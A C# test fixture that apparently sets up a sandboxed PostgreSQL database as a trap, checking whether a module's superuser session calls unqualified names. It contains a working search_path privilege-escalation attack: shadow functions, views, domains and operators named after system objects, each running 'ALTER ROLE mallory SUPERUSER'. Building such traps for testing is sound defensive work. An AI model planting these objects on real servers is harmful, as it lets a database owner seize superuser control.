using System.Text;

namespace PgSsl.Sandbox;

/// <summary>
/// A database whose owner, mallory, wants to become superuser: objects with the names of the system's lie in the search_path that the owner set
/// for everybody, and whichever of them a superuser's session calls makes mallory one.
/// </summary>
public static class TrappedDatabase
{
    /// <summary>Its name.</summary>
    public const string Name = "appdb";

    private const string Schema = "evil";

    // What the statements of the module call: its source is public.
    private static readonly (string Name, string Arguments, string Result)[] Functions =
    [
        ("pg_read_binary_file", "text, int4, int8, bool", "bytea"), ("pg_read_binary_file", "text, int8, int8, bool", "bytea"),
        ("pg_stat_file", "text, bool", "record"), ("pg_ls_dir", "text, bool, bool", "text"), ("pg_current_logfile", "text", "text"),
        ("host", "inet", "text"), ("inet_client_addr", "", "inet"), ("version", "", "text"), ("pg_is_in_recovery", "", "bool"),
        ("pg_conf_load_time", "", "timestamptz"), ("pg_postmaster_start_time", "", "timestamptz"), ("current_setting", "text", "text"),
        ("current_setting", "text, bool", "text"), ("pg_reload_conf", "", "bool"), ("pg_backend_pid", "", "int4"), ("lower", "text", "text"),
        ("encode", "bytea, text", "text"), ("has_parameter_privilege", "text, text", "bool"),
        ("set_config", "text, text, bool", "text"), ("concat", "VARIADIC pg_catalog.text[]", "text"), ("pg_terminate_backend", "int4, int8", "bool"),
        ("pg_get_userbyid", "oid", "name"),
    ];

    private static readonly (string Name, string Columns)[] Views =
    [
        ("pg_settings", "'ssl'::text AS name, 'off'::text AS setting, 'x'::text AS reset_val"), ("pg_roles", "1::oid AS oid, 'x'::name AS rolname"),
        ("pg_file_settings", "'x'::text AS sourcefile"), ("pg_hba_file_rules", "1 AS line_number, 'host'::text AS type"),
        ("pg_stat_activity", "1 AS pid"), ("pg_stat_ssl", "1 AS pid, true AS ssl"), ("pg_authid", "'x'::name AS rolname"),
        ("pg_database", "'x'::name AS datname"), ("pg_auth_members", "1::oid AS roleid"), ("pg_config", "'CONFIGURE'::text AS name"),
    ];

    /// <summary>Makes the database on a server.</summary>
    public static async Task CreateAsync(PostgresCluster cluster)
    {
        await cluster.QueryAsync("CREATE ROLE mallory LOGIN");
        await cluster.QueryAsync($"CREATE DATABASE {Name} OWNER mallory");
        await using SqlConversation owner = await cluster.ConnectAsync(Encoding.UTF8, Name);
        await owner.QueryAsync($"SET SESSION AUTHORIZATION mallory; CREATE SCHEMA {Schema}; SET search_path = {Schema}, pg_catalog");
        foreach (string schema in (string[])[Schema, "public"])
        {
            await owner.QueryAsync(
                $"CREATE FUNCTION {schema}.spring() RETURNS bool LANGUAGE plpgsql AS $$ BEGIN ALTER ROLE mallory SUPERUSER; RETURN true; END $$");
            foreach ((string name, string arguments, string result) in Functions)
            {
                string body = result == "record" ? "NULL::record" : $"NULL::pg_catalog.{result}";
                await owner.QueryAsync(
                    $"CREATE FUNCTION {schema}.{name}({arguments}) RETURNS {result} LANGUAGE plpgsql AS " +
                    $"$$ BEGIN PERFORM {schema}.spring(); RETURN {body}; END $$");
            }
            foreach ((string name, string columns) in Views)
                await owner.QueryAsync(
                    $"CREATE VIEW {schema}.{name} AS SELECT {columns}, {schema}.spring() AS sprung; GRANT SELECT ON {schema}.{name} TO PUBLIC");
            foreach (string type in (string[])["text", "int4", "timestamptz"])
                await owner.QueryAsync($"CREATE DOMAIN {schema}.{type} AS pg_catalog.{type} CHECK ({schema}.spring())");
            foreach (string name in (string[])["=", "<>", "~", "~*", "||"])
            {
                string function = $"{schema}.op_{Convert.ToHexString(Encoding.ASCII.GetBytes(name)).ToLowerInvariant()}";
                foreach (string type in (string[])["pg_catalog.text", "pg_catalog.name", "pg_catalog.int4"])
                {
                    await owner.QueryAsync(
                        $"CREATE FUNCTION {function}({type}, {type}) RETURNS bool LANGUAGE plpgsql AS $$ BEGIN RETURN {schema}.spring(); END $$;" +
                        $"CREATE OPERATOR {schema}.{name} (LEFTARG = {type}, RIGHTARG = {type}, FUNCTION = {function})");
                }
            }
            await owner.QueryAsync($"GRANT USAGE ON SCHEMA {schema} TO PUBLIC");
        }
        await owner.QueryAsync(
            $"""
            ALTER DATABASE {Name} SET search_path = {Schema}, public, pg_catalog;
            ALTER DATABASE {Name} SET datestyle = 'German, DMY'; ALTER DATABASE {Name} SET intervalstyle = 'sql_standard';
            ALTER DATABASE {Name} SET timezone = 'Asia/Tokyo'; ALTER DATABASE {Name} SET bytea_output = 'escape';
            ALTER DATABASE {Name} SET array_nulls = off; ALTER DATABASE {Name} SET transform_null_equals = on;
            ALTER DATABASE {Name} SET quote_all_identifiers = on;
            ALTER DATABASE {Name} SET default_transaction_isolation = 'serializable'; ALTER DATABASE {Name} SET standard_conforming_strings = off
            """);
    }

    /// <summary>Whether a trap was sprung, by whomever.</summary>
    public static async Task<bool> IsSprungAsync(PostgresCluster cluster) =>
        (await cluster.QueryAsync("SELECT rolsuper FROM pg_roles WHERE rolname = 'mallory'"))[0][0] == "t";
}
